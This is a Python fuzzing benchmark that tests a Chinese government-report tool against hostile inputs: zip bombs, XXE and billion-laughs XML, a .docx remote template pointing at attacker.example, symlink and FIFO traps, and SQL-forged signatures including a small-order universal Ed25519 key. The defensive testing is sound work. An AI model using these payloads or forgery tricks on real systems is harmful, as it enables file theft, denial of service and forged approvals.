"""Hostile inputs, counted: per category the inputs tried, the failures found (0) and the time taken.

    python benchmarks/hostile.py [--quick] [--seed N] [--only NAME ...] [--list]

Categories (``CATEGORIES``, in the order run):

- values: random hostile text for every cell kind and field of the 2014/2019/2021 forms, through
  typing (parse_value / parse_field), ``govreport set`` arguments and type_value / set_field on an
  open document;
- values-files: random values files (JSON, surrogates as escapes, bare number literals) and the
  classic attacks (nesting 100,000 deep, a 5,000-digit literal, a 15-million-digit string,
  duplicate keys, a BOM, bytes that are not UTF-8);
- workbooks: crafted .xlsx made on the fly, none stored in the repository (a zip bomb, XXE and
  billion-laughs sheets, a million-row sheet, 3,000 members, a truncated and a non-zip file) given
  to ``import-xlsx`` and ``verify``;
- word: crafted .docx made on the fly (a zip bomb, a 100,000-row table, XXE and billion-laughs
  document.xml, a remote template, nesting 50,000 deep, 6,000 members, truncated, an old .doc,
  random bytes) given to ``import-report``;
- published: crafted PDFs and web pages made on the fly (bytes overwritten at random, truncated,
  a scan, an encrypted file, a 50,000-cell table, nesting 100,000 deep, forged spans, GBK junk)
  given to ``import-report`` (issue 17);
- drafts: truncated, byte-flipped and SQL-crafted drafts given to open / show / check / history /
  set / export (``tests/hostile_inputs.py``, shared with the test suite);
- filesystem: planted lock links, FIFOs, devices, over-long names and ``file:`` names;
- forged-signoffs: a signed draft changed with plain SQL in every way the issue names (a figure with
  the v1 fingerprint recomputed and the history deleted, status 已签发 with an inserted row for 局长,
  another name or time, the forger's own key re-signing the changed content) and random changes of
  the signature fields: never "签名有效，签名人受信任", never exported as signed when invalid;
- altered-workbooks: a signed export changed as a reader would see it (a figure, an extra row or
  sheet, a hidden row, number formats "4" and ;;;, white or tiny text, the sign-off lines, merges,
  footer, the signature properties) must fail ``verify``; changes nobody sees (a plain re-save, 3.0
  for 3, the sheets reordered) must pass.

Each input is judged by the same properties as the tests (``tests/hostile_inputs.py``): no
traceback or 内部错误, no exception other than the documented refusals, no hang, a refused input
changes nothing, an accepted value round-trips exactly. The exit code is 1 when any failure was
found. ``--quick`` takes well under a minute; the full run a few minutes on two cores.

Adding a category: write a function of a
:class:`Run` returning a :class:`Outcome` and decorate it with ``@category("name", "说明")``.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import random
import shutil
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
for _path in (str(REPO), str(REPO / "tests")):
    if _path not in sys.path:
        sys.path.insert(0, _path)

import hostile_inputs as hi  # noqa: E402


@dataclass
class Run:
    """What a category gets: its own empty folder, a seeded random source and the mode."""

    folder: Path
    rng: random.Random
    quick: bool

    def size(self, quick: int, full: int) -> int:
        return quick if self.quick else full


@dataclass
class Outcome:
    tried: int = 0
    failures: list[str] = field(default_factory=list)

    def add(self, failures: list[str]) -> None:
        self.tried += 1
        self.failures += failures


@dataclass(frozen=True)
class Category:
    name: str
    title: str
    run: Callable[[Run], Outcome]


CATEGORIES: dict[str, Category] = {}


def category(
    name: str, title: str
) -> Callable[[Callable[[Run], Outcome]], Callable[[Run], Outcome]]:
    """Register a category of hostile inputs (the extension point: one function per category)."""

    def register(run: Callable[[Run], Outcome]) -> Callable[[Run], Outcome]:
        CATEGORIES[name] = Category(name, title, run)
        return run

    return register


# -- values --------------------------------------------------------------------------------------


@category("values", "数值（键入、set 参数、编辑草稿）")
def values(run: Run) -> Outcome:
    outcome = Outcome()
    targets = hi.targets()
    for _ in range(run.size(4000, 100_000)):
        target, text = run.rng.choice(targets), hi.random_text(run.rng)
        outcome.add(hi.judge_parse(target, text) + hi.judge_assignment(target, text))
    with hi.DocumentJudge(run.folder) as judge:
        for _ in range(run.size(300, 5000)):
            outcome.add(judge.judge(run.rng.choice(targets), hi.random_text(run.rng)))
    return outcome


# -- values files --------------------------------------------------------------------------------

_FORM = '{"form": "gov-disclosure-2014", '
CLASSIC_VALUES_FILES: dict[str, bytes] = {
    "nested-100000": ("[" * 100_000 + "]" * 100_000).encode(),
    "nested-in-values": (_FORM + '"values": ' + "{" * 50_000 + "}" * 50_000 + "}").encode(),
    "integer-5000-digits": (_FORM + '"values": {"received": ' + "1" * 5000 + "}}").encode(),
    "string-15M-digits": (_FORM + '"values": {"received": "' + "1" * 15_000_000 + '"}}').encode(),
    "exponent": (_FORM + '"values": {"received": 1e400}}').encode(),
    "surrogate-field": (_FORM + '"fields": {"head": "\\ud800"}}').encode(),
    "duplicate-key": (_FORM + '"values": {"received": 1, "received": 2}}').encode(),
    "bom": b"\xef\xbb\xbf" + (_FORM + '"values": {"received": 1}}').encode(),
    "not-utf8": (_FORM + '"fields": {"head": "').encode() + b"\xff\xfe" + b'"}}',
    "not-an-object": b"[1, 2, 3]",
    "empty": b"",
    "nan": (_FORM + '"values": {"received": NaN}}').encode(),
    "wrong-form": b'{"form": "no-such-form", "values": {}}',
    "list-too-long": (_FORM + '"values": [' + ",".join(["1"] * 5000) + "]}").encode(),
}


@category("values-files", "数值文件（JSON）")
def values_files(run: Run) -> Outcome:
    outcome = Outcome()
    targets = hi.targets()
    for _ in range(run.size(400, 10_000)):
        outcome.add(
            hi.judge_values_file(run.folder, run.rng.choice(targets), hi.random_text(run.rng))
        )
    draft = hi.make_base_draft(run.folder / "目标.nianbao")
    for name, content in CLASSIC_VALUES_FILES.items():
        path = run.folder / f"{name}.json"
        path.write_bytes(content)
        before = hi.file_state(draft)
        found: list[str] = []
        for argv in (["check", str(path)], ["fill", str(draft), "--values", str(path)]):
            found += _cli_judged(f"数值文件 {name} / {argv[0]}", argv)
        if hi.file_state(draft) != before and name not in ("bom",):
            found.append(f"数值文件 {name}: 被拒绝的文件改动了草稿")
        outcome.add(found)
    return outcome


VERBOSE = bool(os.environ.get("HOSTILE_VERBOSE"))  # print every command's answer (to look at)


def _cli(what: str, argv: list[str], timeout: float = hi.HANG_SECONDS) -> tuple[int | None, str]:
    code, text = hi.run_cli(argv, timeout)
    if VERBOSE:
        print(f"    {what}: 退出码 {code}：{text.strip()[:160]!r}", flush=True)
    return code, text


def _cli_judged(what: str, argv: list[str], timeout: float = hi.HANG_SECONDS) -> list[str]:
    code, text = _cli(what, argv, timeout)
    if code is None:
        return [f"{what}: {timeout:.0f} 秒内没有结束（挂起）"]
    if "Traceback" in text or "内部错误" in text or "异常逃出" in text:
        return [f"{what}: {text.strip()[-300:]}"]
    if code != 0 and not hi.is_chinese(text):
        return [f"{what}: 拒绝但没有中文说明：{text.strip()[-200:]!r}"]
    return []


# -- workbooks -----------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def _exported_workbook(folder: Path) -> Path:
    draft = hi.make_base_draft(folder / "导出源.nianbao")
    out = folder / "正常.xlsx"
    code, text = hi.run_cli(["export", str(draft), "--draft", "--xlsx", str(out)])
    if code != 0:
        raise SystemExit(f"无法导出基准工作簿：{text}")
    return out


def _with_sheet(base: Path, dest: Path, write_sheet: Callable[[zipfile.ZipFile], None]) -> Path:
    """A copy of ``base`` whose first sheet is written by ``write_sheet`` (streamed, never held)."""
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename == SHEET:
                write_sheet(out)
            else:
                out.writestr(info, source.read(info))
    return dest


def _stream(out: zipfile.ZipFile, chunks: Iterator[bytes]) -> None:
    with out.open(SHEET, "w", force_zip64=True) as member:
        for chunk in chunks:
            member.write(chunk)


def _bomb(megabytes: int) -> Callable[[zipfile.ZipFile], None]:
    def chunks() -> Iterator[bytes]:
        yield _SHEET_HEAD
        block = b" " * (1 << 20)
        for _ in range(megabytes):
            yield block
        yield _SHEET_TAIL

    return lambda out: _stream(out, chunks())


def _million_rows(rows: int, rng: random.Random) -> Callable[[zipfile.ZipFile], None]:
    def chunks() -> Iterator[bytes]:
        yield _SHEET_HEAD
        batch: list[bytes] = []
        for r in range(1, rows + 1):
            batch.append(
                b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, rng.randrange(10**9))
            )
            if len(batch) == 10_000:
                yield b"".join(batch)
                batch.clear()
        yield b"".join(batch) + _SHEET_TAIL

    return lambda out: _stream(out, chunks())


def _xml_attack(doctype: bytes, body: bytes) -> Callable[[zipfile.ZipFile], None]:
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        + doctype
        + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        + body
        + b"</t></is></c></row></sheetData></worksheet>"
    )
    return lambda out: out.writestr(SHEET, sheet)


def crafted_workbooks(run: Run, base: Path) -> Iterator[tuple[str, Path]]:
    folder = run.folder
    yield "zip 炸弹", _with_sheet(base, folder / "bomb.xlsx", _bomb(run.size(120, 400)))
    rows = run.size(200_000, 1_000_000)
    yield f"{rows} 行的表", _with_sheet(base, folder / "rows.xlsx", _million_rows(rows, run.rng))
    secret = folder / "secret.txt"
    secret.write_text("机密", encoding="utf-8")
    xxe = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]>' % str(secret).encode()
    yield "XXE 外部实体", _with_sheet(base, folder / "xxe.xlsx", _xml_attack(xxe, b"&e;"))
    laughs = (
        b'<!DOCTYPE x [<!ENTITY a "hahahahahahahahahaha">'
        + b"".join(
            b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&%s;" % bytes([97 + i])) * 10)
            for i in range(9)
        )
        + b"]>"
    )
    yield "十亿笑", _with_sheet(base, folder / "laughs.xlsx", _xml_attack(laughs, b"&j;"))
    many = folder / "members.xlsx"
    shutil.copyfile(base, many)
    with zipfile.ZipFile(many, "a") as out:
        for index in range(3000):
            out.writestr(f"xl/media/x{index}.bin", b"")
    yield "3000 个成员", many
    data = base.read_bytes()
    for offset in (0, 30, len(data) // 3, len(data) - 22):
        cut = folder / f"cut-{offset}.xlsx"
        cut.write_bytes(data[:offset])
        yield f"截断于 {offset} 字节", cut
    junk = folder / "junk.xlsx"
    junk.write_bytes(bytes(run.rng.randrange(256) for _ in range(5000)))
    yield "随机字节", junk


@category("workbooks", "Excel 工作簿（现场生成）")
def workbooks(run: Run) -> Outcome:
    outcome = Outcome()
    base = _exported_workbook(run.folder)
    for name, path in crafted_workbooks(run, base):
        draft = run.folder / f"{path.stem}.nianbao"
        found: list[str] = []
        for label, argv in (
            (
                "import-xlsx",
                ["import-xlsx", str(path), str(draft), "--form", "gov-disclosure-2014"],
            ),
            ("verify", ["verify", str(path)]),
        ):
            what = f"工作簿 {name} / {label}"
            code, text = _cli(what, argv)
            if code is None:
                found.append(f"{what}: {hi.HANG_SECONDS:.0f} 秒内没有结束（挂起）")
            elif "Traceback" in text or "内部错误" in text or "异常逃出" in text:
                found.append(f"{what}: {text.strip()[-300:]}")
            elif code == 0:
                found.append(f"{what}: 被接受（应拒绝）")
            elif "机密" in text:
                found.append(f"{what}: 外部实体被读入")
        if draft.exists():
            found.append(f"工作簿 {name}: 拒绝导入却留下了草稿 {draft.name}")
        outcome.add(found)
    return outcome


# -- Word reports --------------------------------------------------------------------------------

DOCUMENT = "word/document.xml"
_DOC_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)
_DOC_TAIL = b"</w:body></w:document>"


def _report_docx(folder: Path) -> Path:
    import docx

    document = docx.Document()
    document.add_paragraph("某某局2023年政府信息公开工作年度报告")
    document.add_paragraph("一、总体情况")
    document.add_paragraph("全年主动公开政府信息100条。")
    out = folder / "正常.docx"
    document.save(str(out))
    return out


def _with_part(base: Path, dest: Path, name: str, write: Callable[[zipfile.ZipFile], None]) -> Path:
    """A copy of ``base`` whose part ``name`` is written by ``write`` (streamed, never held)."""
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename != name:
                out.writestr(info, source.read(info))
        write(out)
    return dest


def _document_stream(chunks: Iterator[bytes]) -> Callable[[zipfile.ZipFile], None]:
    def write(out: zipfile.ZipFile) -> None:
        with out.open(DOCUMENT, "w", force_zip64=True) as member:
            for chunk in chunks:
                member.write(chunk)

    return write


def _blank_megabytes(count: int) -> Iterator[bytes]:
    yield _DOC_HEAD
    block = b" " * (1 << 20)
    for _ in range(count):
        yield block
    yield _DOC_TAIL


def _table_rows(rows: int, rng: random.Random) -> Iterator[bytes]:
    """Random figures, so that the part is not refused for its compression but for its rows."""
    yield _DOC_HEAD + b"<w:tbl>"
    row = b"<w:tr><w:tc><w:p><w:r><w:t>%d</w:t></w:r></w:p></w:tc></w:tr>"
    for _ in range(rows // 10_000):
        yield b"".join(row % rng.randrange(10**9) for _ in range(10_000))
    yield b"</w:tbl>" + _DOC_TAIL


def crafted_documents(run: Run, base: Path) -> Iterator[tuple[str, Path]]:
    folder = run.folder
    megabytes = run.size(120, 400)
    yield (
        "zip 炸弹",
        _with_part(
            base, folder / "bomb.docx", DOCUMENT, _document_stream(_blank_megabytes(megabytes))
        ),
    )
    rows = run.size(100_000, 600_000)
    yield (
        f"{rows} 行的表",
        _with_part(
            base, folder / "rows.docx", DOCUMENT, _document_stream(_table_rows(rows, run.rng))
        ),
    )
    secret = folder / "secret.txt"
    secret.write_text("机密", encoding="utf-8")
    xxe = b'<!DOCTYPE w:document [<!ENTITY e SYSTEM "file://%s">]>' % str(secret).encode()
    laughs = (
        b'<!DOCTYPE w:document [<!ENTITY a "hahahahahahahahahaha">'
        + b"".join(
            b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&%s;" % bytes([97 + i])) * 10)
            for i in range(9)
        )
        + b"]>"
    )
    for name, doctype, entity in (("XXE 外部实体", xxe, b"&e;"), ("十亿笑", laughs, b"&j;")):
        body = (
            b'<?xml version="1.0" encoding="UTF-8"?>\n'
            + doctype
            + _DOC_HEAD.split(b"\n", 1)[1]
            + b"<w:p><w:r><w:t>"
            + entity
            + b"</w:t></w:r></w:p>"
            + _DOC_TAIL
        )
        yield (
            name,
            _with_part(
                base,
                folder / f"{name}.docx",
                DOCUMENT,
                lambda out, b=body: out.writestr(DOCUMENT, b),
            ),
        )
    rels = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(base) as source:
        text = source.read(rels)
    remote = text.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )
    yield (
        "远程模板",
        _with_part(base, folder / "remote.docx", rels, lambda out: out.writestr(rels, remote)),
    )
    # 50,000 deep: under the size a compression ratio is judged at, so the parser meets it
    deep = _DOC_HEAD + b"<w:p>" + b"<w:r>" * 50_000 + b"</w:r>" * 50_000 + b"</w:p>" + _DOC_TAIL
    yield (
        "嵌套 5 万层",
        _with_part(base, folder / "deep.docx", DOCUMENT, lambda out: out.writestr(DOCUMENT, deep)),
    )
    many = folder / "members.docx"
    shutil.copyfile(base, many)
    with zipfile.ZipFile(many, "a") as out:
        for index in range(6000):
            out.writestr(f"word/media/x{index}.bin", b"")
    yield "6000 个成员", many
    data = base.read_bytes()
    for offset in (0, 30, len(data) // 3, len(data) - 22):
        cut = folder / f"cut-{offset}.docx"
        cut.write_bytes(data[:offset])
        yield f"截断于 {offset} 字节", cut
    old = folder / "old.doc"
    old.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(run.rng.randrange(256) for _ in range(5000))
    )
    yield "旧版 .doc", old
    junk = folder / "junk.docx"
    junk.write_bytes(bytes(run.rng.randrange(256) for _ in range(5000)))
    yield "随机字节", junk


@category("word", "Word 年度报告（现场生成，import-report）")
def word_reports(run: Run) -> Outcome:
    outcome = Outcome()
    base = _report_docx(run.folder)
    for name, path in crafted_documents(run, base):
        draft = run.folder / f"{path.stem}.nianbao"
        what = f"Word 文档 {name} / import-report"
        code, text = _cli(what, ["import-report", str(path), str(draft)])
        found: list[str] = []
        if code is None:
            found.append(f"{what}: {hi.HANG_SECONDS:.0f} 秒内没有结束（挂起）")
        elif "Traceback" in text or "内部错误" in text or "异常逃出" in text:
            found.append(f"{what}: {text.strip()[-300:]}")
        elif code == 0:
            found.append(f"{what}: 被接受（应拒绝）")
        elif "机密" in text or "hahahaha" in text:
            found.append(f"{what}: 实体被展开或读入")
        elif not hi.is_chinese(text):
            found.append(f"{what}: 拒绝但没有中文说明：{text.strip()[-200:]!r}")
        if draft.exists():
            found.append(f"Word 文档 {name}: 拒绝导入却留下了草稿 {draft.name}")
        outcome.add(found)
    return outcome


# -- published reports: PDF and web pages (issue 17) -----------------------------------------------


def crafted_published(run: Run) -> Iterator[tuple[str, Path]]:
    from published_reports import (
        encrypted_pdf,
        example_2021_file,
        export_pdf,
        image_only_pdf,
        load,
    )

    folder = run.folder
    whole = export_pdf(folder / "whole.pdf", load(example_2021_file(folder))).read_bytes()
    for n in range(run.size(5, 40)):
        damaged = bytearray(whole)
        for _ in range(run.rng.randint(1, 40)):
            at = run.rng.randrange(len(damaged))
            damaged[at : at + 16] = bytes(run.rng.randrange(256) for _ in range(16))
        path = folder / f"damaged{n}.pdf"
        path.write_bytes(bytes(damaged))
        yield f"改过字节的 PDF {n}", path
    for fraction in (2, 5, 50):
        path = folder / f"cut{fraction}.pdf"
        path.write_bytes(whole[: len(whole) // fraction])
        yield f"截断的 PDF（1/{fraction}）", path
    yield "扫描件（无文字层）", image_only_pdf(folder / "scan.pdf")
    yield "加密的 PDF", encrypted_pdf(folder / "locked.pdf")
    pages = {
        "cells.html": "<table>" + ("<tr>" + "<td>1</td>" * 100 + "</tr>") * 500 + "</table>",
        "deep.html": "<div>" * 100_000 + "正文" + "</div>" * 100_000,
        "spans.html": '<table><tr><td colspan="999999999" rowspan="999999999">甲</td></tr>'
        + "<tr><td>乙</td></tr>" * 300
        + "</table>",
        "tables.html": "<table><tr><td>" * 20_000 + "深" + "</td></tr></table>" * 20_000,
    }
    for name, text in pages.items():
        path = folder / name
        path.write_text(text, encoding="utf-8")
        yield f"网页 {name}", path
    junk = folder / "junk.html"
    junk.write_bytes(
        b'<meta charset="gbk">' + bytes(run.rng.randrange(256) for _ in range(200_000))
    )
    yield "GBK 声明的随机字节", junk


@category("published", "已发布年报：PDF 与网页（现场生成，import-report）")
def published_reports(run: Run) -> Outcome:
    outcome = Outcome()
    for name, path in crafted_published(run):
        values = run.folder / f"{path.stem}.json"
        what = f"{name} / import-report"
        found = _cli_judged(what, ["import-report", str(path), "--values-out", str(values)])
        outcome.add(found)
    return outcome


# -- drafts --------------------------------------------------------------------------------------


@category("drafts", "草稿（截断、改字节、SQL 构造）")
def drafts(run: Run) -> Outcome:
    outcome = Outcome()
    base = hi.make_base_draft(run.folder / "base.nianbao")
    out = run.folder / "out"
    out.mkdir()
    crafted = run.folder / "crafted"
    crafted.mkdir()
    for name, path in hi.crafted_drafts(crafted, base, run.rng, run.size(12, 120)):
        outcome.add(hi.judge_draft(name, path, out))
    return outcome


# -- the file system -----------------------------------------------------------------------------


@contextlib.contextmanager
def _fifo(path: Path) -> Iterator[Path]:
    """A FIFO at ``path``; on leaving, a reader still blocked on it is released (a hang is
    reported by the judge, and the thread must not stay blocked for ever)."""
    os.mkfifo(path)
    try:
        yield path
    finally:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        path.unlink(missing_ok=True)  # the program may have put a file of its own there


@category("filesystem", "文件系统（链接、管道、设备、长名、file: 名）")
def filesystem(run: Run) -> Outcome:
    from govreport_gui.core.store import draft_lock

    outcome = Outcome()
    folder = run.folder
    timeout = 15.0
    if os.name != "posix":
        return outcome
    draft = hi.make_base_draft(folder / "s.nianbao")
    victim = folder / "victim.txt"
    victim.write_text("别人的文件", encoding="utf-8")

    lock = draft_lock.lock_path(draft)
    lock.symlink_to(victim)
    found = _cli_judged("锁文件链接 / set", ["set", str(draft), "received=5"], timeout)
    if victim.read_text(encoding="utf-8") != "别人的文件":
        found.append("锁文件链接：被链接的文件被改写")
    lock.unlink(missing_ok=True)  # the program put its own lock file in the link's place
    outcome.add(found)

    with _fifo(lock):
        outcome.add(_cli_judged("锁文件是管道 / set", ["set", str(draft), "received=6"], timeout))

    for device in ("/dev/zero", "/dev/urandom", "/dev/null"):
        for argv in (
            ["check", device],
            ["show", device],
            ["fill", str(draft), "--values", device],
            ["import-xlsx", device, str(folder / "d.nianbao"), "--form", "gov-disclosure-2014"],
            ["verify", device],
        ):
            outcome.add(_cli_judged(f"设备 {device} / {argv[0]}", argv, timeout))

    for name in ("管道.nianbao", "管道.json", "管道.xlsx"):
        with _fifo(folder / name) as fifo:
            for argv in (
                ["check", str(fifo)],
                ["show", str(fifo)],
                ["fill", str(draft), "--values", str(fifo)],
                [
                    "import-xlsx",
                    str(fifo),
                    str(folder / "e.nianbao"),
                    "--form",
                    "gov-disclosure-2014",
                ],
                ["verify", str(fifo)],
            ):
                outcome.add(_cli_judged(f"管道 {name} / {argv[0]}", argv, timeout))

    link = folder / "链接.nianbao"
    link.symlink_to(draft)
    before = hi.file_state(draft)
    found = _cli_judged("草稿的链接 / set", ["set", str(link), "received=7"], timeout)
    if victim.read_text(encoding="utf-8") != "别人的文件":
        found.append("草稿的链接：别的文件被改写")
    outcome.add(found)
    del before

    for length in range(240, 256, run.size(5, 1)):
        stem = "长" * ((length - len(".nianbao")) // 3)
        stem += "x" * (length - len(".nianbao") - len(stem.encode()))
        what = f"{length} 字节的名字 / new"
        argv = [
            "new",
            "--form",
            "gov-disclosure-2014",
            str(folder / f"{stem}.nianbao"),
            "--field",
            "unit=某局",
        ]
        found = _cli_judged(what, argv, timeout)
        code, text = hi.run_cli(argv, timeout)  # again: the name exists now, or is refused
        if code != 0 and "已存在" not in text and "太长" not in text and "过长" not in text:
            found.append(f"{what}: 拒绝时没有说名字太长：{text.strip()[:120]!r}")
        outcome.add(found)

    other = hi.make_base_draft(folder / "x.nianbao")
    before_other = hi.file_state(other)
    old = Path.cwd()
    os.chdir(folder)
    try:
        for argv in (
            ["set", "file:x.nianbao", "received=77"],
            [
                "new",
                "--form",
                "gov-disclosure-2014",
                "file:x.nianbao?mode=memory",
                "--field",
                "unit=某局",
            ],
            ["show", "file:x.nianbao"],
            ["history", "file:x.nianbao"],
        ):
            found = _cli_judged(f"file: 名 / {' '.join(argv[:2])}", argv, timeout)
            if hi.file_state(other) != before_other:
                found.append(f"file: 名 / {argv[0]}：改动了另一个草稿 x.nianbao")
            outcome.add(found)
    finally:
        os.chdir(old)
    return outcome


# -- forged sign-offs ----------------------------------------------------------------------------


def _signed_draft(path: Path, reviewer: str = "沈涛") -> Path:
    """The example report signed off by ``reviewer`` with this run's own key (in GOVREPORT_HOME)."""
    from govreport_gui.core.forms.valuesfile import load_values_document
    from govreport_gui.core.ops import review
    from govreport_gui.core.store.draft import Draft

    doc = load_values_document(hi.EXAMPLE)
    draft = Draft.create(path, doc.form, "填报人", doc.fields, doc.values)
    try:
        review.submit(draft)
        draft.user = reviewer  # the reviewer signs, not the 填报人
        review.sign_off(draft, reviewer)
    finally:
        draft.close()
    return path


def _sql(path: Path, *statements: tuple[str, tuple[object, ...]]) -> None:
    import sqlite3

    con = sqlite3.connect(str(path))
    try:
        with con:
            for statement, params in statements:
                con.execute(statement, params)
    finally:
        con.close()


def _other_key_signature(path: Path) -> tuple[tuple[str, tuple[object, ...]], ...]:
    """Statements that change a figure and re-sign the changed content with a key of the forger's
    own, as a forger who read our code would: a valid signature, by a key nobody trusts."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    from govreport_gui.core.forms import signed_content
    from govreport_gui.core.ops import review
    from govreport_gui.core.store import keys
    from govreport_gui.core.store.draft import Draft

    with Draft.open(path, "伪造者") as draft:
        cell = next(c.id for c in draft.form.cells if isinstance(draft.values.get(c.id), int))
        review_values = dict(draft.values)
        review_values[cell] = int(review_values[cell] or 0) + 1  # type: ignore[call-overload]
        row = _active_signoff(path)
        _sql(path, ("UPDATE cell SET value = ? WHERE id = ?", (str(review_values[cell]), cell)))
    with Draft.open(path, "伪造者", readonly=True) as draft:
        digests = review.content_digests(draft)
        message = signed_content.message(
            signed_content.CONTENT_VERSION,
            draft.form.id,
            draft.form.fingerprint,
            digests,
            str(row["reviewer"]),
            str(row["at"]),
        )
    forger = Ed25519PrivateKey.generate()
    public = forger.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    return (
        (
            "UPDATE signoff SET digests = ?, signature = ?, public_key = ? WHERE active = 1",
            (
                signed_content.digests_json(digests),
                keys.b64(forger.sign(message)),
                keys.b64(public),
            ),
        ),
    )


def _changed_figure(path: Path) -> str:
    """Add 1 to a figure of the draft at ``path``; the new v1 fingerprint."""
    from govreport_gui.core.forms.fingerprint import fingerprint
    from govreport_gui.core.store.draft import Draft

    with Draft.open(path, "伪造者", readonly=True) as draft:
        form, fields, values = draft.form, dict(draft.fields), dict(draft.values)
    cell = next(c.id for c in form.cells if isinstance(values.get(c.id), int) and values[c.id])
    values[cell] = int(values[cell]) + 1  # type: ignore[call-overload]
    _sql(
        path,
        ("UPDATE cell SET value = ? WHERE id = ?", (str(values[cell]), cell)),
        ("DELETE FROM history WHERE kind = 'cell' AND target = ? AND batch > 1", (cell,)),
    )
    return fingerprint(form, fields, values)


def _legacy_downgrade(path: Path) -> None:
    """A changed figure passed off as a sign-off from before signatures: the signature columns
    emptied, the fingerprint recomputed in the sign-off row and its history row (acceptance test)."""
    forged = _changed_figure(path)
    _sql(
        path,
        (
            "UPDATE signoff SET fingerprint = ?, content_version = NULL, digests = NULL, "
            "signature = NULL, public_key = NULL WHERE active = 1",
            (forged,),
        ),
        ("UPDATE history SET new = ? WHERE kind = 'signoff'", (forged,)),
    )


UNIVERSAL_SIGNATURE = "万能签名（公钥为单位元，R = 单位元、S = 0）"


def _universal_signature(path: Path) -> None:
    """A changed figure under the one signature that a small-order key accepts for any message."""
    from govreport_gui.core.forms import signed_content
    from govreport_gui.core.ops import review
    from govreport_gui.core.store import keys
    from govreport_gui.core.store.draft import Draft

    forged = _changed_figure(path)
    with Draft.open(path, "伪造者", readonly=True) as draft:
        digests = signed_content.digests_json(review.content_digests(draft))
    identity = (1).to_bytes(32, "little")
    _sql(
        path,
        (
            "UPDATE signoff SET fingerprint = ?, digests = ?, public_key = ?, signature = ? "
            "WHERE active = 1",
            (forged, digests, keys.b64(identity), keys.b64(identity + bytes(32))),
        ),
        ("UPDATE history SET new = ? WHERE kind = 'signoff'", (forged,)),
    )


def _active_signoff(path: Path) -> dict[str, object]:
    import sqlite3

    con = sqlite3.connect(str(path))
    try:
        con.row_factory = sqlite3.Row
        return dict(con.execute("SELECT * FROM signoff WHERE active = 1").fetchone())
    finally:
        con.close()


def forgeries(
    base: Path, rng: random.Random, count: int
) -> Iterator[tuple[str, Callable[[Path], None]]]:
    """(name, what it does to a copy of the signed ``base``): every way the hostile run and the issue
    tried, then ``count`` random changes to the sign-off row's signature fields."""

    def figure_and_v1(path: Path) -> None:
        forged = _changed_figure(path)
        _sql(
            path,
            ("UPDATE signoff SET fingerprint = ? WHERE active = 1", (forged,)),
            ("DELETE FROM history WHERE kind <> 'status'", ()),
        )

    def plain(*statements: tuple[str, tuple[object, ...]]) -> Callable[[Path], None]:
        return lambda path: _sql(path, *statements)

    yield "改数字并重算指纹、删修改记录", figure_and_v1
    yield (
        "只改一个数字",
        plain(
            (
                "UPDATE cell SET value = CAST(value AS INTEGER) + 1 "
                "WHERE id = (SELECT min(id) FROM cell WHERE value <> '')",
                (),
            )
        ),
    )
    yield (
        "改表头字段",
        plain(
            (
                "UPDATE field SET value = value || '（改）' "
                "WHERE key = (SELECT min(key) FROM field WHERE value <> '')",
                (),
            )
        ),
    )
    yield (
        "加一条警告说明",
        plain(
            (
                "INSERT INTO explanation (rule_id, text, at, who, numbers) "
                "VALUES ('r', '补写', '2024-01-01T00:00:00+00:00', '某人', '')",
                (),
            )
        ),
    )
    yield "签发人改名", plain(("UPDATE signoff SET reviewer = '局长' WHERE active = 1", ()))
    yield (
        "签发时间改动",
        plain(("UPDATE signoff SET at = '2020-01-01T00:00:00+00:00' WHERE active = 1", ())),
    )
    yield "状态改回填报中", plain(("UPDATE meta SET value = 'filling' WHERE key = 'status'", ()))
    yield "签名行删除，状态仍为已签发", plain(("DELETE FROM signoff", ()))
    yield (
        "多插一条旧版签发行（局长）",
        plain(
            ("UPDATE signoff SET active = 0", ()),
            (
                "INSERT INTO signoff (reviewer, at, fingerprint, active) "
                "SELECT '局长', at, fingerprint, 1 FROM signoff LIMIT 1",
                (),
            ),
        ),
    )
    yield (
        "两条有效签发行",
        plain(
            (
                "INSERT INTO signoff (reviewer, at, fingerprint, content_version, "
                "digests, signature, public_key, active) SELECT '局长', at, fingerprint, "
                "content_version, digests, signature, public_key, 1 FROM signoff",
                (),
            )
        ),
    )
    yield "签名为二进制块", plain(("UPDATE signoff SET signature = X'00FF' WHERE active = 1", ()))
    yield "公钥不是 base64", plain(("UPDATE signoff SET public_key = '###' WHERE active = 1", ()))
    yield "摘要不是 JSON", plain(("UPDATE signoff SET digests = '{' WHERE active = 1", ()))
